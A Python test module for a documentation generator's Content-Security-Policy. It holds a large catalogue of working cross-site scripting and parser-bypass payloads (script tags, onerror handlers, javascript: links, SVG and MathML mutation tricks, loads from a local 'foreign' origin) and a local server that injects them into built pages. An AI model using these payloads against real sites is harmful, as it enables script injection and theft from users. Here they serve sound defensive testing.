"""Payloads that run in a page without a policy, and a host that serves pages with them."""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

from helpgen.policy import HEADERS, SVG, Policy
from tests.reader import SITE_PATH, Handler

RUN = "window.pwned=1"
FOREIGN = "http://127.0.0.1:FOREIGN/x"
"""Another origin; the host of the tests counts what arrives there."""

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in odd case": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script after a slash": f"<script/x>{RUN}</script>",
    "script from elsewhere": f'<script src="{FOREIGN}.js"></script>',
    "script without a scheme": '<script src="//127.0.0.1:FOREIGN/x.js"></script>',
    "script from data": f'<script src="data:text/javascript,{RUN}"></script>',
    "script from a file of the site": '<script src="/zh/search/store.json"></script>',
    "module": f'<script type="module">{RUN}</script>',
    "module that imports": f'<script type="module">import "{FOREIGN}.mjs"</script>',
    "import map": '<script type="importmap">{"imports": {"./engine.mjs": "data:text/javascript,window.pwned=1"}}</script>',
    "speculation rules": f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{FOREIGN}"]}}]}}</script>',
    "script in a comment that ends early": f"<!--> <script>{RUN}</script> -->",
    "script in a comment that ends late": f"<!-- --!> <script>{RUN}</script> -->",
    "script in CDATA": f"<![CDATA[ > <script>{RUN}</script> ]]>",
    "script after a title": f"<title></title><svg><title><![CDATA[</title><script>{RUN}</script>]]></title></svg>",
    "script in a template": f'<div><template shadowrootmode="open"><script>{RUN}</script></template></div>',
    "image with an error": f'<img src="x" onerror="{RUN}">',
    "image with an error, without quotes": f"<img/src=x/onerror={RUN}>",
    "image with an error, with entities": '<img src="x" onerror="window&#46;pwned&equals;1">',
    "image with an error, over lines": f'<img\nsrc="x"\tONERROR\n=\n"{RUN}">',
    "image with an attribute twice": f'<img src="x" alt="a" alt="b" onerror="{RUN}">',
    "image from elsewhere": f'<img src="{FOREIGN}.png" alt="">',
    "image set": f'<img srcset="{FOREIGN}.png 1x" alt="">',
    "picture": f'<picture><source srcset="{FOREIGN}.png"><img src="x" alt=""></picture>',
    "lazy frame": f'<iframe loading="eager" src="{FOREIGN}"></iframe>',
    "frame with a document": f"<iframe srcdoc=\"<script>parent.{RUN.removeprefix('window.')}</script>\"></iframe>",
    "frame with a script": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "frame with data": f'<iframe src="data:text/html,<script src={FOREIGN}></script>"></iframe>',
    "fenced frame": f'<fencedframe src="{FOREIGN}"></fencedframe>',
    "picture with a script": f'<svg onload="{RUN}"></svg>',
    "picture with a script element": f"<svg><script>{RUN}</script></svg>",
    "picture with a script from elsewhere": f'<svg><script href="{FOREIGN}.js"></script></svg>',
    "picture that is animated into a script": '<svg><a class="click"><animate attributeName="href" values="javascript:window.pwned=1"/><text y="20">x</text></a></svg>',
    "picture that begins": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "picture in a picture": f'<svg><image href="{FOREIGN}.png"/></svg>',
    "picture that uses another": f'<svg><use href="{FOREIGN}.svg#x"/></svg>',
    "picture with HTML": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe></foreignObject></svg>",
    "fill from elsewhere": f'<svg><rect width="9" height="9" fill="url({FOREIGN}.svg#x)"/></svg>',
    "link": '<a class="click" href="javascript:window.pwned=1">x</a>',
    "link in odd case": '<a class="click" href="JaVaScRiPt:window.pwned=1">x</a>',
    "link with a tab": '<a class="click" href="java&Tab;script:window.pwned=1">x</a>',
    "link with a control character": '<a class="click" href="&#1;javascript:window.pwned=1">x</a>',
    "link with entities": '<a class="click" href="&#106;avascript&colon;window.pwned=1">x</a>',
    "link of a picture": '<svg><a class="click" xlink:href="javascript:window.pwned=1"><text y="20">x</text></a></svg>',
    "link of an area": '<img src="/assets/logo.svg" usemap="#m" width="9" height="9" alt=""><map name="m"><area class="click" shape="default" href="javascript:window.pwned=1" alt="x"></map>',
    "link that pings": f'<a class="click" href="#x" ping="{FOREIGN}">x</a>',
    "form": '<form action="javascript:window.pwned=1"><button class="click">x</button></form>',
    "button of a form": '<form><button class="click" formaction="javascript:window.pwned=1">x</button></form>',
    "form that sends": f'<form method="post" action="{FOREIGN}"><button class="click">x</button></form>',
    "picture that sends": f'<form><input type="image" src="{FOREIGN}.png" alt="x"></form>',
    "password": '<label>x <input type="password"></label>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "style": f'<style>@import "{FOREIGN}.css";</style>',
    "style attribute": f'<div style="background:url({FOREIGN}.png)">x</div>',
    "animation": f'<style>@keyframes x{{}}</style><div style="animation:x 1s" onanimationstart="{RUN}">x</div>',
    "style sheet": f'<link rel="stylesheet" href="{FOREIGN}.css">',
    "style sheet with an error": f'<link rel="stylesheet" href="x.css" onerror="{RUN}">',
    "preload": f'<link rel="preload" as="script" href="{FOREIGN}.js">',
    "module preload": f'<link rel="modulepreload" href="{FOREIGN}.mjs">',
    "prefetch": f'<link rel="prefetch" href="{FOREIGN}">',
    "icon": f'<link rel="icon" href="{FOREIGN}.png">',
    "manifest": f'<link rel="manifest" href="{FOREIGN}.json">',
    "import": f'<link rel="import" href="{FOREIGN}">',
    "object": f'<object data="{FOREIGN}"></object>',
    "object with data": '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
    "embed": '<embed src="javascript:window.pwned=1">',
    "applet": f'<applet code="{FOREIGN}"></applet>',
    "base": '<base href="http://127.0.0.1:FOREIGN/"><script src="assets/helpgen/helpgen.js"></script>',
    "audio": f'<audio src="{FOREIGN}.mp3" onerror="{RUN}"></audio>',
    "video": f'<video poster="{FOREIGN}.png"><source onerror="{RUN}"></video>',
    "body": f'<body onload="{RUN}" background="{FOREIGN}.png">',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "another referrer policy": '<meta name="referrer" content="unsafe-url">',
    "refresh to a script": '<meta http-equiv="refresh" content="0; url=javascript:window.pwned=1">',
    "refresh to data": f'<meta http-equiv="refresh" content="0; url=data:text/html,<script>{RUN}</script>">',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;"></table></math>',
    "raw text": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "text area": f'<textarea></textarea ><img src="x" onerror="{RUN}">',
    "raw text of old": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "select": f'<select><style></select><img src=x onerror={RUN}></style></select>',
    "a form within a form": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror={RUN}>"></svg></form>',
}  # fmt: skip

NAVIGATES = {"refresh to another site": f'<meta http-equiv="refresh" content="0; url={FOREIGN}">'}
"""No policy can forbid that a page leads on; the look at the built site can."""

PLAIN = {
    "text": "<p>1 &lt; 2 &amp; \"3\" > 2 <code>&lt;script&gt;</code></p>",
    "link": '<p><a href="../b/?x=1&amp;y=a:b#c">x</a> <a href="https://example.com/?u=http://x">y</a> <a href="mailto:a@b.example">z</a> <a href="tel:+100">t</a></p>',
    "own files": '<img src="../a.png" alt="a > b"><img src="/a.png" alt="">',
    "words that look active": '<p title="onerror=alert(1) javascript:">on javascript: data: style= &lt;style&gt;</p>',
    "comment": "<!-- a word to writers -->",
    "data": '<script id="x" type="application/json">{"a": "javascript:\\u003cscript>"}</script>',
    "picture": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><marker id="a"><path d="M0 0"/></marker></defs><path fill="#fff" d="M1 1" marker-end="url(#a)"/><use href="#a"/></svg>',
    "table": '<table><tr><td align="right" colspan="2">1</td></tr></table>',
    "module": '<script type="module" src="../../assets/helpgen/tree-player.mjs"></script>',
    "details": '<details open><summary>x</summary><p>y</p></details>',
}  # fmt: skip


class Host(Handler):
    """A host that puts a payload into a page (``?payload=NAME``), with the headers when ``headers`` says so."""

    extensions_map = {**Handler.extensions_map, ".mjs": "text/javascript"}  # noqa: RUF012
    headers_of: Policy | None = None
    without_meta = False
    foreign = 0
    arrived: list[str] = []  # noqa: RUF012

    def do_GET(self) -> None:  # noqa: N802
        parts = urlsplit(self.path)
        if parts.path == "/x" or parts.path.startswith("/x."):
            self.arrived.append(self.path)
            self.send_error(404)
            return
        wanted = parse_qs(parts.query).get("payload")
        if not wanted:
            super().do_GET()
            return
        html = (Path(self.directory) / parts.path.removeprefix(SITE_PATH) / "index.html").read_text("utf-8")
        html = with_payload(html, ALL[wanted[0]].replace("FOREIGN", str(self.foreign)))
        if self.without_meta:
            html = html.replace('http-equiv="Content-Security-Policy"', 'name="x"')
        body = html.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815

    def end_headers(self) -> None:
        if self.headers_of is not None:
            policy = SVG if self.path.endswith(".svg") else self.headers_of.header
            for name, value in {"Content-Security-Policy": policy, **HEADERS}.items():
                self.send_header(name, value)
        super().end_headers()


ALL = {**PAYLOADS, **NAVIGATES, **PLAIN}


def with_payload(html: str, payload: str) -> str:
    """A page with ``payload`` at the end of its article."""
    before, end, after = html.rpartition("</article>")
    assert end
    return f"{before}{payload}{end}{after}"


@contextmanager
def hosted(site: Path, policy: Policy | None = None, without_meta: bool = False) -> Iterator[tuple[str, list[str]]]:
    """The address of the site's root, and what arrives at the foreign origin; with ``policy``, the host sends the headers."""
    arrived: list[str] = []
    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_host(arrived), directory=str(site)))
    own = _host(arrived, foreign.server_port, policy, without_meta)
    host = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(own, directory=str(site)))
    for server in (foreign, host):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{host.server_port}{SITE_PATH}", arrived
    for server in (foreign, host):
        server.shutdown()


def _host(arrived: list[str], foreign: int = 0, policy: Policy | None = None, without_meta: bool = False) -> type[Host]:
    values = {"arrived": arrived, "foreign": foreign, "headers_of": policy, "without_meta": without_meta}
    return type("Host", (Host,), values)
